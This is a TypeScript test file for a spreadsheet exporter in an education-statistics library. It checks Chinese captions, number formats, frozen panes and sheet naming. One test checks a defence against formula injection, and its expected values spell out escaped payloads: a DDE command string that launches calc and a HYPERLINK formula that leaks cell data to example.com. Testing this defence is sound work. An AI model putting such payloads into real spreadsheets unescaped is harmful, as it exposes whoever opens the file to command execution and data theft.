import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { InvalidInputError, InvalidOptionError } from '@edukpi/core';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { hostileTable, smallTable } from '../_test/small-table';
import { createTable } from '../table/create-table';
import type { Table } from '../table/table';
import { toXlsx } from './to-xlsx';

async function readBack(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as never);
  return workbook;
}

function allCells(workbook: ExcelJS.Workbook): ExcelJS.Cell[] {
  const cells: ExcelJS.Cell[] = [];
  workbook.eachSheet((sheet) => {
    sheet.eachRow({ includeEmpty: false }, (row) => {
      row.eachCell({ includeEmpty: false }, (cell) => {
        cells.push(cell);
      });
    });
  });
  return cells;
}

describe('toXlsx', () => {
  it('writes a caption row, a header naming units, numbers as numbers with number formats', async () => {
    const workbook = await readBack(await toXlsx(smallTable(), { date: new Date('2024-09-01T00:00:00Z') }));
    const sheet = workbook.getWorksheet('课后服务参与情况');
    if (sheet === undefined) throw new Error('no sheet named after the caption');
    const values = (row: number) =>
      (sheet.getRow(row).values as unknown[]).slice(1).map((value) => (value === undefined ? null : value));
    expect(values(1)).toEqual(['课后服务参与情况']);
    expect(values(2)).toEqual(['学校', '参与率(%)', '在校生(人)', '增减', '是否达标']);
    expect(values(3)).toEqual(['城关小学', 92.88, 1860, -3.5, '✓ 达标']);
    expect(values(4)).toEqual(['西山乡后沟教学点', '—', 32, 0, '✗ 未达标']);
    expect(values(5)).toEqual(['全县', 91.5, 1892, -3.4]);
    expect(values(6)).toEqual(['教学点未开展课后服务。']);
    expect(['B3', 'C3', 'D3', 'D5'].map((address) => sheet?.getCell(address).numFmt)).toEqual([
      '#,##0.00',
      '#,##0',
      '#,##0.0',
      '#,##0.0',
    ]);
    expect(sheet?.getCell('E4').font?.color?.argb).toBe('FFB00020');
    expect(sheet?.getCell('A5').font?.bold).toBe(true);
    expect(workbook.created.toISOString()).toBe('2024-09-01T00:00:00.000Z');
  });

  it('freezes the caption and header rows, filters the first table and sizes columns by display width', async () => {
    const workbook = await readBack(await toXlsx(smallTable()));
    const sheet = workbook.worksheets[0];
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', xSplit: 0, ySplit: 2 });
    expect(sheet?.autoFilter).toBe('A2:E5');
    // 西山乡后沟教学点 is 16 columns wide: 16 + 2
    expect(sheet?.getColumn(1).width).toBe(18);
  });

  it('never writes a formula, neutralises formula-like text and keeps negative numbers numeric', async () => {
    const workbook = await readBack(await toXlsx(hostileTable()));
    const cells = allCells(workbook);
    expect(cells.length).toBeGreaterThan(10);
    for (const cell of cells) {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      expect(cell.formula).toBeUndefined();
      if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r\uff1d]/);
    }
    const sheet = workbook.worksheets[0];
    expect(sheet?.getCell('A1').value).toBe("'=cmd|' /C calc'!A0");
    expect(sheet?.getCell('A2').value).toBe("'@学校");
    expect(sheet?.getCell('C2').value).toBe("'-增减");
    expect(sheet?.getCell('A3').value).toBe('\'=HYPERLINK("http://example.com/?leak="&A1,"点击")');
    expect(sheet?.getCell('B4').value).toBe("'-2+3");
    expect(sheet?.getCell('A5').value).toBe("'\t=1+1");
    expect(sheet?.getCell('B6').value).toBe('a=b (safe)');
    expect([sheet?.getCell('C3').value, sheet?.getCell('C4').value]).toEqual([-12.5, -7]);
    expect(sheet?.getCell('C3').type).toBe(ExcelJS.ValueType.Number);
    expect(sheet?.getCell('A7').value).toBe("'-注释以减号开头");
  });

  it('writes a sheet per section with valid, unique names, and stacks a section’s tables', async () => {
    const table = smallTable();
    const sections = [
      { id: 'a', title: '学校: [小学]/初中?', tables: [table, { ...table, caption: '第二张表' }] },
      { id: 'b', title: '学校: [小学]/初中?', tables: [table] },
      { id: 'c', title: "'History'", tables: [table] },
      { id: 'd', title: '一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三', tables: [table] },
    ];
    const workbook = await readBack(await toXlsx(sections));
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([
      '学校_ _小学__初中_',
      '学校_ _小学__初中_ (2)',
      'History_',
      '一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一',
    ]);
    const first = workbook.worksheets[0];
    // caption, header, 3 rows, 1 note, a blank row, then the second table
    expect(first?.getCell('A8').value).toBe('第二张表');
    expect(first?.getCell('A9').value).toBe('学校');
  });

  it('freezes the first column of a wide table whose first column heads its rows', async () => {
    const wide: Table = createTable({
      caption: '宽表',
      columns: Array.from({ length: 8 }, (_, index) => ({ label: `列${index + 1}` })),
      rows: [Array.from({ length: 8 }, (_, index) => `值${index + 1}`)],
    });
    const workbook = await readBack(await toXlsx(wide));
    expect(workbook.worksheets[0]?.views[0]).toMatchObject({ state: 'frozen', xSplit: 1, ySplit: 2 });
  });

  it('writes the file it is asked to, and reports a path it cannot write', async () => {
    const directory = mkdtempSync(join(tmpdir(), 'edukpi-format-table-'));
    const file = join(directory, 'table.xlsx');
    const bytes = await toXlsx(smallTable(), { file });
    expect(Buffer.compare(readFileSync(file), Buffer.from(bytes))).toBe(0);
    // a ZIP file starts with PK\x03\x04
    expect([...bytes.slice(0, 4)]).toEqual([0x50, 0x4b, 0x03, 0x04]);
    const error = await toXlsx(smallTable(), { file: join(directory, 'missing', 'table.xlsx') }).catch(
      (caught: unknown) => caught,
    );
    expect(InvalidOptionError.isInstance(error)).toBe(true);
    expect((error as InvalidOptionError).path).toEqual(['options', 'file']);
    expect((error as InvalidOptionError).cause).toBeInstanceOf(Error);
  });

  it('rejects malformed tables and options', async () => {
    await expect(toXlsx({ ...smallTable(), rows: [{ cells: [], summary: false }] })).rejects.toThrow(InvalidInputError);
    await expect(toXlsx(smallTable(), { date: new Date('nope') })).rejects.toThrow(InvalidOptionError);
    await expect(toXlsx(smallTable(), { sheet: 'x' } as never)).rejects.toThrow(InvalidOptionError);
  });
});
